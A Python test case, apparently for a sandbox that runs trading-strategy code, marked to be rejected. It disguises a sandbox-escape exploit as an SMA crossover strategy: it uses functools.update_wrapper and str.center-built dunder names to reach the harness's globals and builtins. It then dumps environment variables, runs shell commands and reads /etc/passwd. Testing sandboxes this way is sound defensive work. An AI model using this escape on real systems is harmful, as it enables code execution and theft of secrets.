# expect: reject
# attack: functools.update_wrapper copies the harness recorder's __globals__ (name built by str.center) onto a __setattr__ sink: builtins and the order recorder without any dunder attribute access
import functools
from backtesting import Strategy
from backtesting.lib import crossover
from backtesting.test import SMA

BOX = {}
NAME = 'globals'.center(11, '_')


class Sink:
    def __setattr__(self, name, value):
        BOX[name] = value


class SmaCross(Strategy):
    n1 = 10
    n2 = 20

    def init(self):
        self.sma1 = self.I(SMA, self.data.Close, self.n1)
        self.sma2 = self.I(SMA, self.data.Close, self.n2)
        functools.update_wrapper(Sink(), self.buy, assigned=(NAME,), updated=())
        g = BOX[NAME]
        print(sorted(g)[:40])
        b = g['builtins'.center(12, '_')]
        op = b['open'] if isinstance(b, dict) else b.open
        imp = b['import'.center(10, '_')] if isinstance(b, dict) else None
        print('REC', g.get('REC'))
        try:
            os = imp('os')
            print('ENV', dict(os.environ))
            os.system('touch /tmp/rbi_pwned_update_wrapper; id; ls -la / /tmp; cat /proc/self/status | head -12')
        except Exception as e:
            print('os', e)
        try:
            print(op('/etc/passwd').read()[:300])
        except Exception as e:
            print('open', e)

    def next(self):
        if crossover(self.sma1, self.sma2):
            self.buy()
        elif crossover(self.sma2, self.sma1):
            self.position.close()
